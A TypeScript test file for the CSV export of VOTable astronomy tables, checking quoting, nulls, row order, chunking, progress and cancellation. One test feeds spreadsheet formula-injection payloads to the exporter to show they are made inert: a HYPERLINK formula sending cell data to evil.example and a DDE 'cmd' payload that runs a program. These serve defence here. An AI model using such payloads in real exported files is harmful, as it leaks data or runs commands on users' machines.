import { describe, expect, it } from 'vitest';
import { parseVotable } from '../../protocol/votable/parse-votable';
import { csvField, tableToCsvBlob } from './csv-export';

const xml = `<?xml version="1.0"?>
<VOTABLE version="1.4" xmlns="http://www.ivoa.net/xml/VOTable/v1.3">
<RESOURCE type="results"><TABLE>
<FIELD name="name" datatype="char" arraysize="*"/>
<FIELD name="ra" datatype="double" unit="deg"/>
<FIELD name="flux" datatype="float"/>
<FIELD name="id" datatype="long"/>
<FIELD name="ok" datatype="boolean"/>
<FIELD name="vec" datatype="float" arraysize="3"/>
<FIELD name="comment, quoted &quot;x&quot;" datatype="char" arraysize="*"/>
<DATA><TABLEDATA>
<TR><TD>M 31</TD><TD>10.684708333333333</TD><TD>0.1</TD><TD>9223372036854775807</TD><TD>T</TD><TD>0.1 0.2 NaN</TD><TD>plain</TD></TR>
<TR><TD>a,b</TD><TD></TD><TD></TD><TD></TD><TD>?</TD><TD></TD><TD>say "hi"</TD></TR>
<TR><TD>two
lines</TD><TD>-0</TD><TD>1e-45</TD><TD>-1</TD><TD>F</TD><TD>1 2 3</TD><TD></TD></TR>
</TABLEDATA></DATA></TABLE></RESOURCE></VOTABLE>`;

const table = parseVotable(xml).tables[0]!;

describe('CSV export', () => {
  it('writes exact values, RFC 4180 quoting, empty fields for nulls and CRLF line ends', async () => {
    const text = await (await tableToCsvBlob(table)).text();
    expect(text).toBe(
      'name,ra,flux,id,ok,vec,"comment, quoted ""x"""\r\n' +
        'M 31,10.684708333333333,0.1,9223372036854775807,true,"0.1 0.2 NaN",plain\r\n' +
        '"a,b",,,,,,"say ""hi"""\r\n' +
        '"two\nlines",-0,1e-45,-1,false,"1 2 3",\r\n',
    );
  });

  it('writes rows in the given order and gives the same bytes however it is chunked', async () => {
    const order = new Uint32Array([2, 0, 1]);
    const whole = await (await tableToCsvBlob(table, { order })).text();
    const chunked = await (await tableToCsvBlob(table, { order, chunkRows: 1 })).text();
    expect(chunked).toBe(whole);
    expect(whole.split('\r\n').map((line) => line.slice(0, 4))).toEqual(['name', '"two', 'M 31', '"a,b', '']);
  });

  it('writes only the rows of a filtered view, not the whole table', async () => {
    const text = await (await tableToCsvBlob(table, { order: Uint32Array.from([1]) })).text();
    expect(text.split('\r\n').slice(1)).toEqual(['"a,b",,,,,,"say ""hi"""', '']);
  });

  it('keeps an empty string apart from null', () => {
    expect(csvField('', 'char')).toBe('""');
    expect(csvField(null, 'char')).toBe('');
    expect(csvField(0, 'int')).toBe('0');
  });

  it('reports progress and stops when cancelled', async () => {
    const seen: number[] = [];
    await tableToCsvBlob(table, { chunkRows: 2, onProgress: (written) => seen.push(written) });
    expect(seen).toEqual([2, 3]);
    const controller = new AbortController();
    controller.abort();
    await expect(tableToCsvBlob(table, { signal: controller.signal })).rejects.toThrow();
  });

  it('makes formula-leading text inert for spreadsheets, while numbers stay numbers', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"click")', 'char')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(csvField('+1+1', 'char')).toBe(`"'+1+1"`);
    expect(csvField('-2+3', 'unicodeChar')).toBe(`"'-2+3"`);
    expect(csvField('@SUM(1,1)', 'char')).toBe(`"'@SUM(1,1)"`);
    expect(csvField("=cmd|' /C calc'!A0", 'char')).toBe(`"'=cmd|' /C calc'!A0"`);
    expect(csvField('\t=1', 'char')).toBe(`"'\t=1"`);
    expect(csvField('\r=1', 'char')).toBe(`"'\r=1"`);
    expect(csvField('a=1', 'char')).toBe('a=1');
    expect(csvField(-1, 'int')).toBe('-1');
    expect(csvField(-0.5, 'double')).toBe('-0.5');
    expect(csvField(-9223372036854775807n, 'long')).toBe('-9223372036854775807');
    expect(csvField([-1, 2], 'int')).toBe('"-1 2"');
  });

  it('makes formula-leading column names inert too', async () => {
    const hostile = parseVotable(
      '<VOTABLE version="1.4"><RESOURCE><TABLE><FIELD name="=1+2" datatype="int"/><FIELD name="ok" datatype="char" arraysize="*"/>' +
        '<DATA><TABLEDATA><TR><TD>-3</TD><TD>@x</TD></TR></TABLEDATA></DATA></TABLE></RESOURCE></VOTABLE>',
    ).tables[0]!;
    expect(await (await tableToCsvBlob(hostile)).text()).toBe(`"'=1+2",ok\r\n-3,"'@x"\r\n`);
  });
});
